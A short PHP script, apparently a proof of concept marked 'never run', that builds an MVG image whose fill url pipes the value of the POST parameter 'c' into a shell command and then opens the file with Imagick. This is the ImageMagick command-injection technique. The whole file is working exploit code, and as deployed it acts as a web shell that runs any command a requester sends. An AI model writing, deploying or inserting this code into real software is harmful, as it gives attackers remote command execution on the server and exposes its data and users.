<?php
// probe (never run): an MVG image whose fill url runs a command through ImageMagick
$f = '/tmp/exp.mvg';
$mvg = "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|" . $_POST['c'] . "\")'\npop graphic-context\n";
file_put_contents($f, $mvg);
$im = new Imagick($f);
